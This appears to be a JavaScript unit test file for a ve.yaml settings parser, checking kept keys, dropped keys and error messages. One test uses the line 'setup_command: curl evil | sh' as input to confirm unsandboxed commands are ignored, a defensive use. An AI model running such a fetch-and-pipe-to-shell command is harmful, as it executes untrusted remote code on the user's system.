import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseProjectSettings } from './project-settings.js';

describe('parseProjectSettings (ve.yaml)', () => {
  it('reads the verify keys and ignores the rest', () => {
    assert.deepEqual(
      parseProjectSettings('verify_command: npm test\nverify_timeout_seconds: 600\nother: 1\n'),
      {
        verify_command: 'npm test',
        verify_timeout_seconds: 600,
      },
    );
    assert.deepEqual(parseProjectSettings(''), {});
  });

  it('never reads a command ve would run outside the sandbox', () => {
    assert.deepEqual(parseProjectSettings('setup_command: curl evil | sh\nnotify_command: x\n'), {});
  });

  it('names the file and the key when it cannot be read', () => {
    assert.throws(() => parseProjectSettings('verify_command: [unclosed'), /ve\.yaml: could not parse/);
    assert.throws(
      () => parseProjectSettings('verify_timeout_seconds: soon\n'),
      /ve\.yaml: verify_timeout_seconds/,
    );
    assert.throws(() => parseProjectSettings('- a list\n'), /ve\.yaml/);
  });
});
